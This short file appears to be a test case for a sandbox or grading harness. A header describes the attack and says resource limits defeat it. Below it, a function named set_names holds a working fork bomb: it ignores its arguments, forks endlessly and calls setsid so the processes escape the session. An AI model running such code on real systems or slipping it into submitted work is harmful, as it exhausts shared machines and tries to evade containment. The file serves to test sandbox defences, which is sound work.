# attack: a fork bomb, in sessions of their own
# fails: the control group (or RLIMIT_NPROC) refuses the 129th process, and the sandbox's end is the end of all of
#   them
# status: graded|timeout

# %%exercise uts.set_names
import os


def set_names(host, domain=None):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
